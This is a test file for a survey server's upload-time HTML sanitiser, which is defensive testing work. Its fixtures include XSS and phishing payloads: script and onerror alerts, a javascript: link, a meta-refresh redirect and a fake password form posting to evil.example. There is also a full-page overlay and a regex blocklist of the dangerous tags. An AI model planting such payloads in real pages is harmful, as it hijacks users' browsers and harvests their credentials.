// Issue 23, item 7: HTML in an uploaded instrument is cleaned at upload. A full-page overlay, a
// <meta http-equiv=refresh> sending the respondent elsewhere, scripts, forms and iframes are removed;
// text formatting, lists, tables, links (rel="noopener noreferrer") and images stay. The stored
// definition, the one served to respondents, holds the clean HTML.
import request from 'supertest';
import { startMera, type TestMera } from '../support/mera';

const ADMIN = 'a-long-administrator-token-for-tests';
let mera: TestMera;
beforeAll(async () => {
  mera = await startMera({ config: { adminToken: ADMIN } });
});
afterAll(() => mera.close());

const hostile = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:white">Опрос закрыт, перейдите на <a href="https://evil.example/">новый адрес</a></div>',
  '<script>alert(1)</script><img src="x.png" onerror="alert(2)">',
  '<form action="https://evil.example/"><input name="password"><button>Войти</button></form>',
  '<iframe src="https://evil.example/"></iframe><object data="x"></object><embed src="x">',
  '<a href="javascript:alert(3)">ссылка</a><p class="modal-backdrop" id="root">класс</p>',
].join('');
const kept =
  '<p><strong>Важно:</strong> <em>ответы</em> анонимны.</p><ul><li>один</li></ul><table><tr><th>A</th><td>1</td></tr></table><img src="https://school.example/logo.png" alt="Логотип"><p style="color:#336699;text-align:center">центр</p>';

test('hostile HTML of an html element and of completedHtml is cleaned at upload, and the served definition keeps only the clean HTML', async () => {
  await request(mera.app)
    .post('/api/instruments')
    .set('Authorization', `Bearer ${ADMIN}`)
    .send({
      id: 'html-clean',
      respondentType: 'student',
      anonymous: true,
      survey: {
        title: { ru: 'Клубы', en: 'Clubs' },
        completedHtml: { ru: `<h3>Спасибо!</h3>${hostile}`, en: `<h3>Thank you!</h3>${hostile}` },
        pages: [
          {
            name: 'p1',
            elements: [
              { type: 'html', name: 'intro', html: hostile + kept },
              { type: 'rating', name: 'q1', title: 'Нравится?' },
            ],
          },
        ],
      },
    })
    .expect(201);
  const survey = (await request(mera.app).get('/api/instruments/html-clean').expect(200)).body.instrument.survey;
  const html: string = survey.pages[0].elements[0].html;
  for (const text of [html, survey.completedHtml.ru, survey.completedHtml.en]) {
    expect(text).not.toMatch(/<meta|<script|<form|<input|<iframe|<object|<embed|onerror|javascript:|position|z-index|100vh|class=|id=/i);
    // The overlay's text stays, as harmless text; its link opens without handing over the window.
    expect(text).toContain('<a href="https://evil.example/" rel="noopener noreferrer">новый адрес</a>');
  }
  expect(html).toContain(
    '<p><strong>Важно:</strong> <em>ответы</em> анонимны.</p><ul><li>один</li></ul><table><tr><th>A</th><td>1</td></tr></table><img src="https://school.example/logo.png" alt="Логотип" /><p style="color:#336699;text-align:center">центр</p>',
  );
  expect(survey.completedHtml.ru).toMatch(/^<h3>Спасибо!<\/h3>/);
});
